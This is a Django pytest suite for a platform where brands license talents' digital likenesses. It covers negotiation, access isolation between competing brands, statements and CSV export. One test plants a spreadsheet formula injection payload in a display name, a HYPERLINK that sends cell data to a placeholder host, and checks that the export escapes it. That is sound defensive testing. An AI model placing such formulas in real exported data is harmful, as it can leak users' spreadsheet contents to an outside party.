import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from studio.enums import Role
from tests.factories import LicenseFactory, TwinFactory
from twins.enums import LicenseStatus, UsageKind
from twins.models import License, StandingTerms, UsageLine
from twins.services import usage_record

pytestmark = pytest.mark.django_db


def request_form(**overrides):
    data = {
        "starts_on": "2026-03-01",
        "ends_on": "2026-05-31",
        "markets": "fr, de",
        "channels": ["instagram"],
        "categories": ["top"],
        "exclusivity": "none",
        "currency": "eur",
        "flat_fee": "200",
        "per_asset_fee": "10",
        "note": "Spring",
    }
    data.update(overrides)
    return data


@pytest.fixture
def open_talent(world):
    world.talent_a.discoverable = True
    world.talent_a.save()
    return world


def test_brand_requests_and_talent_accepts_through_the_pages(open_talent, login):
    world = open_talent
    director = login(world.user("brand-a", Role.CREATIVE_DIRECTOR))
    catalogue = director.get(reverse("twin-catalogue")).content.decode()
    assert world.talent_a.display_name in catalogue
    assert world.talent_b.display_name not in catalogue  # not discoverable, never licensed
    response = director.post(reverse("license-request", args=[world.twin_a.pk]), request_form())
    assert response.status_code == 302
    license = License.objects.get()
    assert (license.brand, license.markets, license.currency) == (
        world.brand_a,
        ["DE", "FR"],
        "EUR",
    )
    talent = login(world.talent_a.user)
    page = talent.get(reverse("talent-licenses", args=[world.talent_a.pk])).content.decode()
    assert "Brand A" in page and "Accept" in page
    talent.post(reverse("talent-license-decide", args=[license.pk, "accept"]))
    license.refresh_from_db()
    assert license.status == LicenseStatus.ACTIVE


def test_a_bad_request_form_says_why_and_creates_nothing(open_talent, login):
    director = login(open_talent.user("brand-a", Role.CREATIVE_DIRECTOR))
    response = director.post(
        reverse("license-request", args=[open_talent.twin_a.pk]),
        request_form(markets="France", ends_on="2026-01-01"),
    )
    assert response.status_code == 400
    assert b"ISO country codes" in response.content
    assert not License.objects.exists()


def test_counter_and_accept_the_counter_through_the_pages(open_talent, login):
    world = open_talent
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a, status=LicenseStatus.REQUESTED)
    talent = login(world.talent_a.user)
    response = talent.post(
        reverse("talent-license-counter", args=[license.pk]), request_form(flat_fee="300")
    )
    assert response.status_code == 302
    license.refresh_from_db()
    assert (license.status, license.flat_fee) == (LicenseStatus.COUNTERED, Decimal("300"))
    director = login(world.user("brand-a", Role.CREATIVE_DIRECTOR))
    assert "proposes these terms" in director.get(reverse("brand-licenses")).content.decode()
    director.post(reverse("brand-license-decide", args=[license.pk, "accept"]))
    license.refresh_from_db()
    assert license.status == LicenseStatus.ACTIVE


def test_each_side_reads_the_others_note_and_the_brand_why_the_talent_declined(open_talent, login):
    """A negotiation's words reach the other side: the note of a request or a counter on both
    license pages, and the reason a talent declines on the brand's (and in its API), line breaks
    kept; a competitor reads none of it."""
    world = open_talent

    def director():
        return login(world.user("brand-a", Role.CREATIVE_DIRECTOR))

    def talent():
        return login(world.talent_a.user)

    director().post(
        reverse("license-request", args=[world.twin_a.pk]),
        request_form(note="Spring lookbook.\nTwo shoots <b>in Paris</b>."),
    )
    license = License.objects.get()
    talent_page = reverse("talent-licenses", args=[world.talent_a.pk])
    page = talent().get(talent_page).content.decode()
    assert "<dd>Spring lookbook.<br>Two shoots &lt;b&gt;in Paris&lt;/b&gt;.</dd>" in page

    talent().post(
        reverse("talent-license-counter", args=[license.pk]),
        request_form(flat_fee="300", note="Three shoots\nat most."),
    )
    page = director().get(reverse("brand-licenses")).content.decode()
    assert "<dd>Three shoots<br>at most.</dd>" in page and "proposes these terms" in page
    director().post(reverse("brand-license-decide", args=[license.pk, "withdraw"]))
    page = director().get(reverse("brand-licenses")).content.decode()
    assert "Declined" in page and "Declined:" not in page  # withdrawn, for no reason given

    asked = LicenseFactory(twin=world.twin_a, brand=world.brand_a, status=LicenseStatus.REQUESTED)
    talent().post(
        reverse("talent-license-decide", args=[asked.pk, "decline"]),
        {"reason": "  Not for swimwear,\nsorry.  "},
    )
    asked.refresh_from_db()
    assert (asked.status, asked.declined_reason) == (
        LicenseStatus.DECLINED,
        "Not for swimwear,\nsorry.",
    )
    said = "Declined: Not for swimwear,<br>sorry."
    assert said in talent().get(talent_page).content.decode()
    brand = director()
    assert said in brand.get(reverse("brand-licenses")).content.decode()
    body = brand.get(reverse("api-license-detail", args=[asked.pk])).json()
    assert body["declined_reason"] == "Not for swimwear,\nsorry."
    rival = login(world.user("brand-b", Role.CREATIVE_DIRECTOR))
    assert "swimwear" not in rival.get(reverse("brand-licenses")).content.decode()
    assert rival.get(reverse("api-license-detail", args=[asked.pk])).status_code == 404


def test_a_counter_the_license_cannot_take_now_says_why_and_changes_nothing(open_talent, login):
    """The brand counters only what the talent countered; its own request waits for the talent."""
    world = open_talent
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a, status=LicenseStatus.REQUESTED)
    director = login(world.user("brand-a", Role.CREATIVE_DIRECTOR))
    url = reverse("brand-license-counter", args=[license.pk])
    assert director.get(url).status_code == 200
    response = director.post(url, request_form(flat_fee="300"))
    assert response.status_code == 400
    assert "This license is requested; it cannot change that way now." in response.content.decode()
    license.refresh_from_db()
    assert (license.status, license.flat_fee) == (LicenseStatus.REQUESTED, Decimal("0"))
    back = director.post(
        reverse("brand-license-counter", args=[license.pk]), request_form(ends_on="2025-01-01")
    )
    assert back.status_code == 400


def test_one_talent_two_competing_brands_each_sees_only_its_own(world, login):
    mine = LicenseFactory(twin=world.twin_a, brand=world.brand_a, markets=["IT"])
    theirs = LicenseFactory(twin=world.twin_a, brand=world.brand_b, markets=["JP"])
    client = login(world.user("brand-b", Role.CREATIVE_DIRECTOR))
    catalogue = client.get(reverse("twin-catalogue")).content.decode()
    # Whole elements: a bare "IT" also turns up inside a random CSRF token.
    assert '<abbr title="Japan">JP</abbr>' in catalogue and ">IT</abbr>" not in catalogue
    licenses = client.get(reverse("brand-licenses")).content.decode()
    assert '<abbr title="Japan">JP</abbr>' in licenses and ">IT</abbr>" not in licenses
    for action in ("accept", "withdraw"):
        assert (
            client.post(reverse("brand-license-decide", args=[mine.pk, action])).status_code == 404
        )
    assert client.get(reverse("brand-license-counter", args=[mine.pk])).status_code == 404
    assert License.objects.get(pk=mine.pk).status == LicenseStatus.ACTIVE
    assert theirs.status == LicenseStatus.ACTIVE


def test_another_talent_or_a_stranger_agency_cannot_decide(world, login):
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a, status=LicenseStatus.REQUESTED)
    for user in (world.talent_b.user, world.other_agency.members.get().user):
        client = login(user)
        assert (
            client.post(reverse("talent-license-decide", args=[license.pk, "accept"])).status_code
            == 404
        )
        assert client.get(reverse("talent-licenses", args=[world.talent_a.pk])).status_code == 404
        assert client.get(reverse("talent-earnings", args=[world.talent_a.pk])).status_code == 404
    assert License.objects.get(pk=license.pk).status == LicenseStatus.REQUESTED
    booker = login(world.agency.members.get().user)
    booker.post(reverse("talent-license-decide", args=[license.pk, "accept"]))
    assert License.objects.get(pk=license.pk).status == LicenseStatus.ACTIVE


def test_standing_terms_are_the_talents_alone(world, login):
    booker = login(world.agency.members.get().user)
    page = booker.get(reverse("talent-terms", args=[world.talent_a.pk])).content.decode()
    assert "Only " in page and "Save my terms" not in page
    response = booker.post(
        reverse("talent-terms", args=[world.talent_a.pk]), {"excluded_categories": ["swimwear"]}
    )
    assert response.status_code == 400
    assert not StandingTerms.objects.exists()
    talent = login(world.talent_a.user)
    talent.post(
        reverse("talent-terms", args=[world.talent_a.pk]),
        {
            "excluded_categories": ["swimwear"],
            "excluded_content_tags": ["tobacco"],
            "blocked_brands": [world.brand_b.pk],
        },
    )
    terms = StandingTerms.objects.get(talent=world.talent_a)
    assert terms.excluded_categories == ["swimwear"]
    assert list(terms.blocked_brands.all()) == [world.brand_b]


def test_revoke_through_the_page_needs_a_reason(world, login):
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a)
    talent = login(world.talent_a.user)
    response = talent.post(
        reverse("talent-license-decide", args=[license.pk, "revoke"]), {"reason": ""}, follow=True
    )
    assert b"Say why" in response.content
    assert License.objects.get(pk=license.pk).status == LicenseStatus.ACTIVE
    talent.post(
        reverse("talent-license-decide", args=[license.pk, "revoke"]), {"reason": "Changed my mind"}
    )
    assert License.objects.get(pk=license.pk).status == LicenseStatus.REVOKED


def test_statements_sum_to_the_cent_and_export_as_csv(world, login):
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a, per_asset_fee=Decimal("19.99"))
    other = LicenseFactory(twin=world.twin_a, brand=world.brand_b, per_asset_fee=Decimal("5.00"))
    for n in range(7):
        usage_record(
            license=license,
            asset_ref=f"a{n}",
            channel="instagram",
            markets=["DE", "FR"][: n % 2 + 1],
            used_on=date(2026, 6, n + 1),
        )
    usage_record(
        license=other, asset_ref="b1", channel="web", markets=["DE"], used_on=date(2026, 6, 3)
    )
    usage_record(
        license=license, asset_ref="july", channel="web", markets=["DE"], used_on=date(2026, 7, 1)
    )
    admin = login(world.user("brand-a", Role.BRAND_ADMIN))
    response = admin.get(reverse("brand-statement"), {"month": "2026-06", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    lines, total = rows[1:-1], rows[-1]
    assert len(lines) == 7 and {row[1] for row in lines} == {"Brand A"}
    assert sum(Decimal(row[9]) for row in lines) == Decimal(total[9]) == Decimal("199.90")
    talent = login(world.talent_a.user)
    page = talent.get(
        reverse("talent-earnings", args=[world.talent_a.pk]), {"month": "2026-06"}
    ).content.decode()
    assert "204.90 EUR" in page
    social = login(world.user("brand-a", Role.SOCIAL_TEAM))
    assert social.get(reverse("brand-statement")).status_code == 404


def test_a_long_statement_pages_its_lines_and_sums_them_all(world, login):
    """A brand's month can hold thousands of posts: the page and the API show a page of lines
    with the month's totals, the CSV every line."""
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a, per_asset_fee=Decimal("1.25"))

    def lines(month: int, count: int) -> None:
        UsageLine.objects.bulk_create(
            UsageLine(
                license=license,
                kind="asset",
                asset_ref=f"post-{month}-{n}",
                channel="instagram",
                markets=["DE"],
                used_on=date(2026, month, n % 28 + 1),
                amount=Decimal("1.25"),
                currency="EUR",
            )
            for n in range(count)
        )

    lines(6, 120)
    lines(7, 1)
    admin = login(world.user("brand-a", Role.BRAND_ADMIN))
    url, june = reverse("brand-statement"), {"month": "2026-06"}
    first = admin.get(url, june).content.decode()
    assert first.count("<tr><td>") == 50 and "150.00 EUR" in first
    assert "Page 1 of 3 · 120 in all" in first and "?month=2026-06&page=2" in first
    last = admin.get(url, {**june, "page": 3}).content.decode()
    assert last.count("<tr><td>") == 20 and "150.00 EUR" in last

    api = reverse("api-brand-statement")
    body = admin.get(api, june).json()
    assert (body["count"], len(body["lines"]), body["totals"]) == (120, 50, {"EUR": "150.00"})
    assert "month=2026-06" in body["next"] and "page=2" in body["next"]
    end = admin.get(api, {**june, "page": 3}).json()
    assert (len(end["lines"]), end["next"], end["totals"]) == (20, None, {"EUR": "150.00"})
    assert admin.get(api, {**june, "page": 9}).status_code == 404

    rows = list(csv.reader(io.StringIO(admin.get(url, {**june, "format": "csv"}).content.decode())))
    assert len(rows) == 1 + 120 + 1 and rows[-1][9:] == ["150.00", "EUR"]


def test_statement_csvs_show_names_that_look_like_formulas_and_never_run_them(world, login):
    """A talent's and a twin's names are theirs to choose; a brand's finance team opens the CSV
    in a spreadsheet, which would run a cell that starts with = + - or @."""
    world.talent_a.display_name = '=HYPERLINK("http://x.example/?"&A1,"Inès")'
    world.talent_a.save()
    world.twin_a.name = "@SUM(1+1)"
    world.twin_a.save()
    for brand, ref in ((world.brand_a, "-1+2"), (world.brand_b, "post-7")):
        license = LicenseFactory(twin=world.twin_a, brand=brand, per_asset_fee=Decimal("10.00"))
        usage_record(
            license=license, asset_ref=ref, channel="web", markets=["DE"], used_on=date(2026, 6, 2)
        )

    def rows(client, url: str) -> list[list[str]]:
        response = client.get(url, {"month": "2026-06", "format": "csv"})
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        return list(csv.reader(io.StringIO(response.content.decode())))

    admin = login(world.user("brand-a", Role.BRAND_ADMIN))
    _header, line, total = rows(admin, reverse("brand-statement"))
    assert line[1:4] == ["Brand A", "'" + world.talent_a.display_name, "'@SUM(1+1)"]
    assert line[6] == "'-1+2" and line[9] == total[9] == "10.00"
    talent = login(world.talent_a.user)
    earnings = rows(talent, reverse("talent-earnings", args=[world.talent_a.pk]))
    assert [row[1] for row in earnings[1:-1]] == ["Brand A", "Brand B"]
    assert {row[6] for row in earnings[1:-1]} == {"'-1+2", "post-7"}
    assert earnings[-1][0] == "total" and earnings[-1][9:] == ["20.00", "EUR"]


def test_license_pages_keep_a_flat_query_count(world, login, django_assert_max_num_queries):
    client = login(world.user("brand-a", Role.CREATIVE_DIRECTOR))
    world.talent_a.discoverable = True
    world.talent_a.save()
    LicenseFactory(twin=world.twin_a, brand=world.brand_a)
    for url in (reverse("twin-catalogue"), reverse("brand-licenses")):
        client.get(url)
        with django_assert_max_num_queries(20) as first:
            client.get(url)
        for n in range(6):
            twin = TwinFactory(talent=world.talent_a, name=f"Twin {n}")
            LicenseFactory(twin=twin, brand=world.brand_a).exclusive_against.set([world.brand_b])
        with django_assert_max_num_queries(len(first.captured_queries)):
            client.get(url)


def test_where_my_likeness_is_used(world, login):
    license = LicenseFactory(twin=world.twin_a, brand=world.brand_a)
    usage_record(
        license=license,
        asset_ref="post-42",
        channel="instagram",
        markets=["DE"],
        used_on=date(2026, 6, 1),
    )
    page = login(world.talent_a.user).get(reverse("talent-usage", args=[world.talent_a.pk]))
    assert "post-42" in page.content.decode() and "Brand A" in page.content.decode()
    assert (
        login(world.talent_b.user)
        .get(reverse("talent-usage", args=[world.talent_a.pk]))
        .status_code
        == 404
    )


def test_an_agency_for_two_talents_sees_each_ones_own_terms_licenses_and_agreements(world, login):
    from django.utils import timezone

    from tests.factories import ReplicaAgreementFactory, RepresentationFactory
    from twins.services import standing_terms_update

    RepresentationFactory(talent=world.talent_b, agency=world.agency)
    for talent, excluded, blocked in (
        (world.talent_b, ["swimwear"], []),
        (world.talent_a, [], [world.brand_b]),
    ):
        standing_terms_update(
            actor=talent.user,
            talent=talent,
            excluded_categories=excluded,
            excluded_content_tags=[],
            blocked_brands=blocked,
            agency_needs_confirmation=False,
        )
    for twin, market, fee in ((world.twin_a, "IT", "10.00"), (world.twin_b, "JP", "99.00")):
        license = LicenseFactory(
            twin=twin, brand=world.brand_a, markets=[market], per_asset_fee=Decimal(fee)
        )
        usage_record(
            license=license,
            asset_ref="a-1",
            channel="web",
            markets=[market],
            used_on=date(2026, 6, 1),
        )
        UsageLine.objects.create(  # the month's flat fee: a line of the statement, not a use
            license=license,
            kind=UsageKind.FLAT,
            markets=[market],
            used_on=date(2026, 6, 1),
            amount=Decimal("100.00"),
            currency="EUR",
        )
    world.twin_b.agreements.update(text_version="b-2026")
    ReplicaAgreementFactory(
        twin=world.twin_a, text_version="a-2025", ended_at=timezone.now(), ended_reason="Renewed"
    )
    booker = login(world.agency.members.get().user)
    terms = booker.get(reverse("api-talent-terms", args=[world.talent_a.pk])).json()
    assert (terms["excluded_categories"], terms["blocked_brands"]) == ([], ["brand-b"])
    page = booker.get(reverse("talent-terms", args=[world.talent_a.pk])).content.decode()
    assert "<dt>Never wears</dt>" in page and "<dd>swimwear</dd>" not in page
    licenses = booker.get(reverse("talent-licenses", args=[world.talent_a.pk])).content.decode()
    assert ">IT</abbr>" in licenses and ">JP</abbr>" not in licenses
    api = booker.get(reverse("api-talent-licenses", args=[world.talent_a.pk])).json()
    assert [row["markets"] for row in api["results"]] == [["IT"]]
    statement = booker.get(
        reverse("api-talent-statement", args=[world.talent_a.pk]), {"month": "2026-06"}
    ).json()
    assert (statement["count"], statement["totals"]) == (2, {"EUR": "110.00"})
    uses = booker.get(reverse("api-talent-usage", args=[world.talent_a.pk])).json()["results"]
    assert [use["markets"] for use in uses] == [["IT"]]
    twin_page = booker.get(reverse("twin-detail", args=[world.twin_a.pk])).content.decode()
    assert "Every agreement signed for this twin (2)" in twin_page
    assert "a-2025" in twin_page and "Renewed" in twin_page and "b-2026" not in twin_page
